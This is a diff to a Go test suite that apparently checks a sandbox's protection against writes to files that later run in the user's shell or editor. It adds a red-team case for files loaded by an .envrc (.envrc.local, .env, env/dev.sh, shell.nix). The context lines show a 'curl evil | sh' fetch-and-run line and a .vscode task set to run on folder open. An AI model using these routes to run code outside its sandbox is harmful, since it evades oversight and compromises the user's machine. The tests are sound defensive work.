@@ -793,6 +793,24 @@ func protectedCases() []escCase {
 		prot(".envrc created", `echo 'curl evil | sh' > .envrc`,
 			`echo 'export A=1' > src/.envrc`, []string{"src/.envrc"},
 			[]string{".envrc"}, nil, nil),
+		// direnv's approval covers the .envrc's own content, not what it
+		// loads: those files run in the user's shell at the next cd
+		// (red team, 2026-12-03).
+		prot("files an .envrc loads", `echo 'touch /tmp/x' > .envrc.local; echo 'PROMPT_COMMAND="touch /tmp/x"' > .env; echo 'touch /tmp/x' >> env/dev.sh; echo '{ shellHook = "touch /tmp/x"; }' > shell.nix`,
+			`echo 'touch /tmp/x' > src/.envrc.local; echo A=1 > src/.env`, []string{"src/.envrc.local", "src/.env"},
+			[]string{".envrc.local", ".env", "shell.nix"}, []string{"env/dev.sh"}, func(e *env) {
+				if err := os.MkdirAll(filepath.Join(e.ws, "env"), 0o755); err != nil {
+					e.t.Fatal(err)
+				}
+				for name, data := range map[string]string{
+					".envrc":     "source_env_if_exists .envrc.local\ndotenv\n[ -f env/dev.sh ] && source ./env/dev.sh\nuse nix\n",
+					"env/dev.sh": "export DEV=1\n",
+				} {
+					if err := os.WriteFile(filepath.Join(e.ws, name), []byte(data), 0o644); err != nil {
+						e.t.Fatal(err)
+					}
+				}
+			}),
 		prot(".vscode/tasks.json created", `mkdir -p .vscode && echo '{"tasks":[{"label":"x","command":"touch /tmp/x","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
 			`mkdir -p src/.vscode && echo '{}' > src/.vscode/tasks.json`, []string{"src/.vscode/tasks.json"},
 			[]string{".vscode"}, nil, nil),
